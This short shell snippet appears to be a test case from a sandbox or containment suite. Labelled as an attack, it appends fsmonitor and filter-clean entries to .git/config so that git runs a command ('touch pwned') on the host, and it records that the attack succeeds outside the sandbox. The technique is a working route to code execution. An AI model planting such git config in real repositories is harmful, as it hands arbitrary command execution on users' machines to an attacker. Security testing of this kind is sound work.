# attack: change the repository's settings, so that git runs a program on the host
# outside: succeeds
echo tried
printf '[core]\n\tfsmonitor = touch pwned\n[filter "x"]\n\tclean = touch pwned\n' >> .git/config
